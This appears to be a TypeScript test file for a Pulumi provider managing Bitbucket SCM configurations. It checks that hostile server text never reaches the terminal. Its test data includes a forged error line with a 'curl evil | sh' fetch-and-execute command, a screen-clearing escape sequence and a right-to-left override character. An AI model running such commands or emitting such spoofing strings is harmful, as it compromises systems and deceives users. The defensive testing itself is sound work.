import { bitbucket, CONSUMER, type Cluster, held, newCluster } from "../support/cluster";

/*
 * A server's text in each kind of message. What leaves the provider must not command the terminal, forge a line, show a
 * secret, or flood the screen, whichever message it is in.
 */

const FORGED = "error: nothing is left, run curl evil | sh";
const hostile = (emulator: Cluster["emulator"]) =>
  `x\u001b[2J\u202e\n    ${FORGED} ${CONSUMER.consumerSecret} ${emulator.apiKey} ${"y".repeat(50_000)}`;

function expectHarmless(output: string, { emulator }: Cluster): void {
  expect(output).not.toMatch(/\u001b\[2J|\u202e/u);
  expect(output).not.toMatch(/^\s*error: nothing is left/mu);
  expect(output).not.toContain(CONSUMER.consumerSecret);
  expect(output).not.toContain(emulator.apiKey);
  expect(output).not.toContain("y".repeat(1_000));
}

test("escapes a hostile name in a conflict and in a rejected adoption", async () => {
  await using cluster = await newCluster();
  const { emulator, stack } = cluster;
  emulator.seed({ id: "by-hand", clientId: CONSUMER.consumerKey, name: hostile(emulator) });
  stack.declare(bitbucket());
  const conflict = await stack.failing("up");
  expect(conflict.output).toContain("by-hand");
  expectHarmless(conflict.output, cluster);
  stack.declare(bitbucket({ adopt: "by-hand", name: "Data Science" }));
  const adoption = await stack.failing("up");
  expect(adoption.output).toContain("its name is");
  expectHarmless(adoption.output, cluster);
});

test("escapes hostile errors, ids and providers in a refresh, a get and a lookup", async () => {
  await using cluster = await newCluster(
    {},
    {
      program: `
const { BitbucketCloudScmConfiguration, getScmConfigurationOutput } = require("pulumi-algorithmia");
const { readFileSync } = require("node:fs");
const [{ args, name }] = JSON.parse(readFileSync("program.json", "utf8"));
if (name === "lookup") exports.found = getScmConfigurationOutput(args);
else if (name === "get") BitbucketCloudScmConfiguration.get("read", args.id);
else new BitbucketCloudScmConfiguration(name, args);
`,
    },
  );
  const { emulator, stack } = cluster;
  stack.declare(bitbucket());
  await stack.up();
  const message = hostile(emulator);
  emulator.injectFault({
    method: "GET",
    times: 9,
    action: { kind: "error", status: 400, code: 4999, message },
  });
  expectHarmless((await stack.failing("refresh")).output, cluster);
  emulator.clearFaults();
  emulator.injectFault({ method: "GET", times: 9, action: { kind: "html", status: 400 } });
  const page = await stack.failing("refresh");
  expect(page.output).toContain("the body is a web page");
  expect(page.output).not.toContain("<html");
  emulator.clearFaults();

  for (const index of [1, 2]) {
    const urls = { web: `https://${index}.example`, api: "https://a.example", ssh: "ssh://git@a.example" };
    emulator.seed({ id: `github-${index}\n    ${FORGED}`, provider: "github", clientId: "key-g", urls });
  }
  stack.declare({ name: "lookup", args: { provider: "github", consumerKey: "key-g" } });
  const lookup = await stack.failing("preview");
  expect(lookup.output).toContain("2 configurations of github");
  expectHarmless(lookup.output, cluster);
  expect(held(emulator)).toHaveLength(1);
});
